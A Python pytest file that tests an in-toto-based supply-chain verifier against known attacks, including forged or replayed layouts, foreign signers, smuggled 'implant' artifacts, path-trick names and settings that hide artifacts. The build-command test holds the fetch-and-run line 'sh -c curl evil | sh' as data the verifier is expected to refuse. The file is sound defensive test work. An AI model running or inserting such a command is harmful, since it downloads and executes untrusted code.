"""Attack 52: the supply chain. Every trap of in-toto that is known to have caught somebody, one test each."""

import contextlib
import fcntl
import json
import logging
import os
import sys
import time
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import in_toto.settings
import pytest
from securesystemslib.signer import CryptoSigner, Key

from packager.model.errors import SupplyChainError
from packager.model.policy import RolePolicy
from packager.supplychain.chain import verify_chain
from packager.supplychain.front import perform, run_command
from packager.supplychain.intoto import link_name
from packager.supplychain.steps import BUNDLE, COLLECT, DIFF, PUBLISH, SELF_CHECK
from tests.loopback import PATIENCE_S
from tests.supply_chain import KEYS, NOW, SIGNERS, TWO_BUNDLERS, Build, digest, edit_payload, make_build, with_front

MALLORY = SIGNERS["mallory"]


@pytest.fixture
def build() -> Build:
    return make_build()


def refused(build: Build, wrong: str, files: Mapping[str, bytes] | None = None) -> None:
    with pytest.raises(SupplyChainError, match=wrong):
        build.verify(files)


def file_of(step: str, name: str | None = None) -> str:
    return link_name(step, KEYS[name or step].keyid)


class Workshop:
    """A machine of the company that performs the step ``compile``."""

    def __init__(self, root: Path) -> None:
        self.build = with_front(make_build(), "compile")
        self.source, self.image = root / "source.c", root / "image.bin"
        self.source.write_bytes(b"int main")

    def perform(self, *script: str, timeout_s: float | None = None, run: Any = run_command) -> dict[str, bytes]:
        return perform(
            "compile",
            self.build.policy,
            KEYS,
            {"compile": SIGNERS["compile"]},
            {},
            {"input/source.c": self.source},
            {"images/E0/new/image": self.image},
            [sys.executable, "-c", "\n".join(script)],
            timeout_s=timeout_s,
            run=run,
        )

    @property
    def makes_image(self) -> str:
        return f"open({str(self.image)!r}, 'wb').write(b'image')"


@pytest.fixture
def workshop(tmp_path: Path) -> Workshop:
    return Workshop(tmp_path)


def test_attack_52_time_limit_that_nobody_asked_for(workshop: Workshop, monkeypatch: pytest.MonkeyPatch) -> None:
    """in-toto ends a command after ten seconds; a step may take an hour."""
    monkeypatch.setattr(in_toto.settings, "LINK_CMD_EXEC_TIMEOUT", "0.05")
    assert workshop.perform("import time", "time.sleep(0.3)", workshop.makes_image)
    limits: list[float | None] = []
    workshop.perform("", run=lambda _, timeout_s: limits.append(timeout_s) or 0)
    assert limits == [None]


def test_attack_52_command_beyond_its_time_leaves_no_link_and_no_process(workshop: Workshop, tmp_path: Path) -> None:
    """What the command started holds a lock for as long as it lives."""
    lock = tmp_path / "lock"
    sleep = "time.sleep(9999)"
    child = (
        f"import fcntl, time; f = open({str(lock)!r}, 'w'); fcntl.flock(f, 2); print('!', file=f, flush=True); {sleep}"
    )
    script = ("import subprocess, sys, time", f"subprocess.Popen([sys.executable, '-c', {child!r}])", sleep)
    for timeout_s in (0.8, 3, 10, 30, 100):  # until it was there
        with pytest.raises(SupplyChainError, match=f"was not finished after {timeout_s:g} seconds"):
            workshop.perform(*script, timeout_s=timeout_s)
        if lock.exists() and lock.read_bytes():
            break
    with lock.open("rb") as file:
        deadline = time.monotonic() + PATIENCE_S
        while time.monotonic() < deadline:
            with contextlib.suppress(BlockingIOError):
                fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
                return
            time.sleep(0.01)
    pytest.fail("a process that the command started lives on")


def test_attack_52_failing_command_goes_unnoticed(workshop: Workshop) -> None:
    """in_toto_run signs a link all the same, the exit code in a field that nobody reads."""
    with pytest.raises(SupplyChainError, match="ended with exit code 3, expected 0; no link was signed"):
        workshop.perform(workshop.makes_image, "raise SystemExit(3)")
    with pytest.raises(SupplyChainError, match="can't be started: No such file"):
        run_command(["/nowhere/cc"], None)


def test_attack_52_command_that_makes_nothing(workshop: Workshop) -> None:
    with pytest.raises(SupplyChainError, match=r"image\.bin: can't be read: No such file"):
        workshop.perform("")


def test_attack_52_other_command_is_only_a_warning(build: Build, workshop: Workshop) -> None:
    """in-toto logs a warning; here it is an error, in the build's steps and in the company's own."""
    build.command = ("sh", "-c", "curl evil | sh")
    refused(build, "step 'collect': found command 'sh -c curl evil | sh', expected 'packager build'")
    own = workshop.build
    own.policy = replace(own.policy, commands={"compile": ("make", "images")})
    own.commands = {"compile": ("make", "images")}
    own.verify()
    own.commands = {"compile": ("make", "evil")}
    refused(own, "step 'compile': found command 'make evil', expected 'make images'")
    with pytest.raises(SupplyChainError, match=r"step 'compile': found command .*, expected .make images"):
        workshop.perform(workshop.makes_image)


def test_attack_52_working_directory_of_the_process_is_changed(
    build: Build, workshop: Workshop, monkeypatch: pytest.MonkeyPatch
) -> None:
    """record_artifacts changes the directory of the whole process: another thread then hashes other files."""

    def changed(*_: object) -> None:
        raise AssertionError("the working directory was changed")

    monkeypatch.setattr(os, "chdir", changed)
    files, keys = build.files(), build.layout().keys
    with ThreadPoolExecutor(4) as threads:
        for future in [threads.submit(verify_chain, files, keys, NOW) for _ in range(4)]:
            future.result()
    workshop.perform(workshop.makes_image)


def test_attack_52_link_of_another_build_is_reused(build: Build) -> None:
    other = make_build(release="7.1").files()
    for step in (BUNDLE, SELF_CHECK, PUBLISH):
        refused(
            build,
            "step 'bundle'|step 'self-check'|step 'publish'",
            {**build.files(), file_of(step): other[file_of(step)]},
        )


def test_attack_52_layout_of_another_release_is_replayed(build: Build) -> None:
    other = make_build()
    other.release = replace(build.release, description=digest("another release.toml"))
    refused(build, "the layout is for sha256", {**build.files(), "root.layout": other.layout().data})


def test_attack_52_expired_layout_is_replayed(build: Build) -> None:
    files, keys = build.files(), build.layout().keys
    verify_chain(files, keys, NOW + timedelta(days=90, seconds=-1))
    with pytest.raises(SupplyChainError, match="layout: expired at 2026-05-30"):
        verify_chain(files, keys, NOW + timedelta(days=90))


def test_attack_52_layout_of_somebody_else(build: Build) -> None:
    forged = edit_payload(build.layout().data, lambda layout: None, MALLORY)
    refused(build, "layout: found signatures of", {**build.files(), "root.layout": forged})


@pytest.mark.parametrize("step", [COLLECT, DIFF, BUNDLE, SELF_CHECK, PUBLISH])
def test_attack_52_foreign_functionary(build: Build, step: str) -> None:
    files = build.files()
    under_its_own_name = {name: data for name, data in files.items() if name != file_of(step)}
    under_its_own_name[file_of(step, "mallory")] = build.link(step, "mallory")
    refused(build, f"step '{step}': found 0 links, expected 1", under_its_own_name)
    refused(build, f"link of step '{step}': found signatures", {**files, file_of(step): build.link(step, "mallory")})
    refused(build, "expected only root.layout", {**files, file_of(step, "mallory"): build.link(step, "mallory")})
    other = DIFF if step != DIFF else BUNDLE
    refused(build, f"link of step '{step}': found signatures", {**files, file_of(step): build.link(step, other)})


@pytest.mark.parametrize("step", [COLLECT, DIFF, BUNDLE, SELF_CHECK, PUBLISH])
def test_attack_52_missing_step(build: Build, step: str) -> None:
    files = {name: data for name, data in build.files().items() if name != file_of(step)}
    refused(build, f"step '{step}': found 0 links, expected 1", files)

    def leave_out(layout: dict[str, Any]) -> None:
        layout["steps"] = [entry for entry in layout["steps"] if entry["name"] != step]

    shorter = edit_payload(build.layout().data, leave_out, SIGNERS["owner-1"])
    refused(build, "layout: found steps", {**files, "root.layout": shorter})


def test_attack_52_functionaries_of_a_threshold_disagree(build: Build) -> None:
    build.policy = TWO_BUNDLERS
    build.verify()
    files = build.files()
    name = next(iter(build.products[BUNDLE]))
    build.products[BUNDLE][name] = digest("implant")
    files[file_of(BUNDLE, "bundle-2")] = build.link(BUNDLE, "bundle-2")
    refused(build, "step 'bundle': its functionaries .* disagree on its artifacts", files)


@pytest.mark.parametrize(
    ("step", "kind", "name"),
    [
        (COLLECT, "products", "alignments/E0/new/" + "0" * 64 + ".segments"),
        (DIFF, "products", "bundles/E0/new/full.bundle"),
        (BUNDLE, "products", "targets/E0/new/full.bundle"),
        (BUNDLE, "materials", "images/E9/1/image"),
        (SELF_CHECK, "products", "rebuilt/full/E9/new/image"),
        (PUBLISH, "products", "targets/E9/new/full.bundle"),
    ],
)
def test_attack_52_extra_artifact_without_a_rule(build: Build, step: str, kind: str, name: str) -> None:
    getattr(build, kind)[step][name] = digest("implant")
    refused(build, f"'{step}'")


@pytest.mark.parametrize("kind", ["expected_materials", "expected_products"])
@pytest.mark.parametrize("step", range(5))
def test_attack_52_rules_that_allow_by_default(build: Build, step: int, kind: str) -> None:
    def allow(layout: dict[str, Any]) -> None:
        layout["steps"][step][kind].pop()

    files = {**build.files(), "root.layout": edit_payload(build.layout().data, allow, SIGNERS["owner-1"])}
    refused(build, f"{kind} must end with DISALLOW", files)


def test_attack_52_inspection_runs_a_command(build: Build, tmp_path: Path) -> None:
    command = ["touch", str(tmp_path / "ran")]
    inspection = {"_type": "inspection", "name": "x", "expected_materials": [], "expected_products": [], "run": command}
    data = edit_payload(build.layout().data, lambda layout: layout["inspect"].append(inspection), SIGNERS["owner-1"])
    refused(build, "layout: found inspections, expected none", {**build.files(), "root.layout": data})
    assert not (tmp_path / "ran").exists()


def test_attack_52_configuration_in_the_working_directory(
    build: Build, workshop: Workshop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CVE-2023-32076: a file in the working directory, or a variable, that hides artifacts."""
    expected = workshop.perform(workshop.makes_image)
    monkeypatch.chdir(tmp_path)
    for name in (".in_totorc", ".in_toto/config", ".config/in_toto"):
        (tmp_path / name).parent.mkdir(exist_ok=True, parents=True)
        (tmp_path / name).write_text("[in-toto settings]\nARTIFACT_EXCLUDE_PATTERNS=*\nARTIFACT_BASE_PATH=/nowhere\n")
    monkeypatch.setenv("IN_TOTO_ARTIFACT_EXCLUDE_PATTERNS", "*")
    monkeypatch.setenv("IN_TOTO_ARTIFACT_BASE_PATH", "/nowhere")
    assert workshop.perform(workshop.makes_image) == expected
    build.products[DIFF]["bundles/E0/new/full.bundle"] = digest("implant")
    refused(build, "'diff'")


NAMES = [
    "images/E0/new/../new/image",
    "images/./new/image",
    "images//new/image",
    "/images/E0/new/image",
    "images/E0/new/image/",
    "images/*/new/image",
    "images/E?/new/image",
    "images/[E]0/new/image",
    "images/E0/new/image\n",
    "images\\E0\\new\\image",
    "images/E\u0301/new/image",
    "work/../images/E0/new/image",
    "input/*",
]


@pytest.mark.parametrize("name", NAMES)
def test_attack_52_names_that_slip_past_the_rules(build: Build, name: str) -> None:
    """CVE-2021-41087: wildcards and relative paths in names of artifacts."""

    def add(link: dict[str, Any]) -> None:
        link["products"][name] = {"sha256": "0" * 64}

    for step in (COLLECT, BUNDLE):
        files = {**build.files(), file_of(step): edit_payload(build.link(step), add, SIGNERS[step])}
        refused(build, f"link of step '{step}': found (artifact|the text .*NFC)", files)


@pytest.mark.parametrize("name", NAMES)
def test_attack_52_names_that_slip_past_the_rules_of_own_steps(workshop: Workshop, name: str) -> None:
    with pytest.raises(SupplyChainError, match="found artifact"):
        perform(
            "compile",
            workshop.build.policy,
            KEYS,
            {"compile": SIGNERS["compile"]},
            {},
            {},
            {name: workshop.source},
            ["true"],
            run=lambda *_: 0,
        )


def test_attack_52_one_functionary_under_two_ids(build: Build) -> None:
    """in-toto counts key ids, and one key can have many."""
    bundler = SIGNERS[BUNDLE]
    assert isinstance(bundler, CryptoSigner)
    twin = CryptoSigner(bundler._private_key, Key.from_dict("f" * 64, bundler.public_key.to_dict()))
    build.policy = TWO_BUNDLERS

    def name_twice(layout: dict[str, Any]) -> None:
        entry = next(step for step in layout["steps"] if step["name"] == BUNDLE)
        entry["pubkeys"] = [bundler.public_key.keyid, "f" * 64]
        layout["keys"]["f" * 64] = {**layout["keys"][bundler.public_key.keyid], "keyid": "f" * 64}

    files = {**build.files(), "root.layout": edit_payload(build.layout().data, name_twice, SIGNERS["owner-1"])}
    del files[file_of(BUNDLE, "bundle-2")]
    files[link_name(BUNDLE, "f" * 64)] = edit_payload(build.link(BUNDLE), lambda _: None, twin)
    refused(build, "step 'bundle': found the same key under two key ids", files)


def test_attack_52_image_that_skips_a_step_of_the_companys_own() -> None:
    """The step ``sign`` changes what ``compile`` made; a rule alone would take either."""
    build = with_front(make_build(), "compile", "sign")
    build.verify()
    name = "images/E0/new/image"
    unsigned = build.products["compile"][name]
    assert unsigned != build.products["sign"][name]
    build.materials[COLLECT][name] = unsigned
    refused(build, "images/E0/new/image")
    del build.materials[COLLECT][name]
    refused(build, "step 'collect': images/E0/new/image: found nothing, expected sha256:.* by step 'sign'")


def test_attack_52_own_step_is_missing_or_foreign() -> None:
    build = with_front(make_build(), "compile", "sign")
    files = build.files()
    for step in ("compile", "sign"):
        fewer = {name: data for name, data in files.items() if name != file_of(step)}
        refused(build, f"step '{step}': found 0 links", fewer)
        forged = {**files, file_of(step): build.link(step, "mallory")}
        refused(build, f"link of step '{step}': found signatures", forged)


def test_attack_52_own_step_works_on_what_nobody_made(workshop: Workshop, tmp_path: Path) -> None:
    """The audit of 2023: a step that does not verify its inputs launders what was slipped in between."""
    build = with_front(make_build(), "compile", "sign")
    links = workshop.perform(workshop.makes_image)

    def sign(given: Mapping[str, bytes], change: Callable[[], object] = lambda: None) -> dict[str, bytes]:
        change()
        signers = {"sign": SIGNERS["sign"]}
        place = {"images/E0/new/image": workshop.image}
        return perform("sign", build.policy, KEYS, signers, given, place, place, ["true"], run=lambda *_: 0)

    assert sign(links)
    with pytest.raises(SupplyChainError, match="images/E0/new/image: is no product of any step"):
        sign({})
    forged = {name: edit_payload(data, lambda _: None, MALLORY) for name, data in links.items()}
    with pytest.raises(SupplyChainError, match="link of step 'compile': found signatures"):
        sign(forged)
    with pytest.raises(SupplyChainError, match=r"found sha256:.* by the link of step 'compile'"):
        sign(links, lambda: workshop.image.write_bytes(b"implant"))


def test_attack_52_symbolic_link_is_recorded_as_what_it_points_to(workshop: Workshop, tmp_path: Path) -> None:
    workshop.source.unlink()
    workshop.source.symlink_to("/etc/hostname")
    with pytest.raises(SupplyChainError, match=r"source\.c: is no plain file"):
        workshop.perform(workshop.makes_image)


def test_attack_52_threshold_of_an_own_step(workshop: Workshop) -> None:
    own = workshop.build
    own.policy = replace(own.policy, steps={**own.policy.steps, "compile": RolePolicy(("compile", "mallory"), 2, 90)})
    one = {file_of("compile"): own.link("compile")}
    signers, place = {"sign": MALLORY}, {"images/E0/new/image": workshop.source}
    policy = replace(own.policy, steps={**own.policy.steps, "sign": RolePolicy(("sign",), 1, 90)})
    keys = {**KEYS, "sign": MALLORY.public_key}
    with pytest.raises(SupplyChainError, match="step 'compile': found 1 links, expected 2"):
        perform("sign", policy, keys, signers, one, place, place, ["true"], run=lambda *_: 0)


def test_attack_52_nothing_is_said_on_the_streams_of_the_process(
    build: Build, capfd: pytest.CaptureFixture[str]
) -> None:
    level = logging.getLogger("in_toto").level
    build.verify()
    refused(build, "link of step 'diff'", {**build.files(), file_of(DIFF): json.dumps({}).encode()})
    assert capfd.readouterr() == ("", "")
    assert logging.getLogger("in_toto").level == level


def test_attack_52_own_step_makes_images_of_foreign_hardware(tmp_path: Path) -> None:
    """A supplier's step makes what its own hardware gets, as its TUF role signs for nothing else."""
    own = with_front(make_build(), "compile")
    own.policy = replace(own.policy, step_hardware={"compile": ("E0", "E1")})
    own.verify()
    own.policy = replace(own.policy, step_hardware={"compile": ("E0",)})
    refused(own, "step 'compile', products: .*images/E1/new/image")
    own.policy = replace(own.policy, step_hardware={"compile": ("E",)})
    refused(own, "step 'compile', products: ")
    workshop = Workshop(tmp_path)
    workshop.build.policy = replace(workshop.build.policy, step_hardware={"compile": ("E0",)})
    assert workshop.perform(workshop.makes_image)
    workshop.build.policy = replace(workshop.build.policy, step_hardware={"compile": ("E1",)})
    with pytest.raises(SupplyChainError, match="makes images/E0/new/image, expected images of E1 alone"):
        workshop.perform("raise SystemExit('not even started')")
